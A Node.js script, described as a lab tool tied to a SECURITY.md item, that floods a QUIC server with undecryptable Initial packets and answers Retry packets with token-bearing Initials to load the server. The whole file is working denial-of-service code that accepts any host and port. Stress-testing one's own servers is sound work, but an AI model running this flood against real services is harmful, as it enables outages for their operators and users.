// QUIC handshake flood for the lab (SECURITY.md P2): 1200-byte QUIC v1 long-header Initial
// packets with random connection IDs and random (undecryptable) payloads, from several UDP
// sockets, at RATE packets/s for DURATION_S seconds. With ECHO=1 every Retry that comes back is
// answered with a token-bearing Initial (as a spoof-free attacker would), which makes the server
// check the token and try to decrypt. Bounded in time; prints one JSON line at the end.
// Usage: node quic-initial-flood.mjs HOST PORT RATE DURATION_S [ECHO=1] [SOCKETS=4]
import { randomBytes, randomFillSync } from 'node:crypto';
import { createSocket } from 'node:dgram';

const [host, portS, rateS, durS, echoS = '1', socketsS = '4'] = process.argv.slice(2);
const port = Number(portS);
const rate = Number(rateS);
const durationMs = Number(durS) * 1000;
const echo = echoS === '1';
const TICK_MS = 10;
const LEN = 1200;

function varint(n) {
  if (n < 64) return Buffer.from([n]);
  if (n < 16384) return Buffer.from([0x40 | (n >> 8), n & 0xff]);
  throw new Error('varint too large');
}

/** A QUIC v1 Initial of exactly LEN bytes; payload is random (it will not decrypt). */
function initial(dcid, scid, token) {
  const head = Buffer.concat([
    Buffer.from([0xc3, 0, 0, 0, 1, dcid.length]),
    dcid,
    Buffer.from([scid.length]),
    scid,
    varint(token.length),
    token,
  ]);
  const rest = LEN - head.length - 2; // 2-byte length field, then pn(4) + payload
  const body = Buffer.alloc(rest);
  randomFillSync(body);
  return Buffer.concat([head, Buffer.from([0x40 | (rest >> 8), rest & 0xff]), body]);
}

const stats = { sent: 0, echoed: 0, replies: 0, retries: 0, other: 0, sendErrors: 0 };
const socks = [];
for (let i = 0; i < Number(socketsS); i++) {
  const s = createSocket('udp4');
  s.on('error', () => stats.sendErrors++);
  s.on('message', (m) => {
    stats.replies++;
    if (m.length < 7 || (m[0] & 0xf0) !== 0xf0) {
      stats.other++;
      return;
    }
    stats.retries++;
    if (!echo || Date.now() > end) return;
    // Retry: flags, version(4), dcid len + dcid (our scid), scid len + scid (server's new CID), token, tag(16).
    let o = 5;
    const dl = m[o++];
    const ourScid = m.subarray(o, o + dl);
    o += dl;
    const sl = m[o++];
    const newDcid = m.subarray(o, o + sl);
    o += sl;
    const token = m.subarray(o, m.length - 16);
    s.send(initial(Buffer.from(newDcid), Buffer.from(ourScid), Buffer.from(token)), port, host, (e) => {
      if (e) stats.sendErrors++;
    });
    stats.echoed++;
  });
  s.bind(0);
  socks.push(s);
}

const start = Date.now();
const end = start + durationMs;
let k = 0;
const perTick = Math.max(1, Math.round((rate * TICK_MS) / 1000));
const timer = setInterval(() => {
  const now = Date.now();
  if (now >= end) {
    clearInterval(timer);
    setTimeout(() => {
      console.log(JSON.stringify({ ...stats, ms: Date.now() - start }));
      for (const s of socks) s.close();
    }, 1000);
    return;
  }
  // Catch up to the target count for the elapsed time (setInterval slips on a busy machine).
  const due = Math.min(Math.floor(((now - start) * rate) / 1000), stats.sent + perTick * 4);
  while (stats.sent < due) {
    const s = socks[k++ % socks.length];
    s.send(initial(randomBytes(8), randomBytes(8), Buffer.alloc(0)), port, host, (e) => {
      if (e) stats.sendErrors++;
    });
    stats.sent++;
  }
}, TICK_MS);
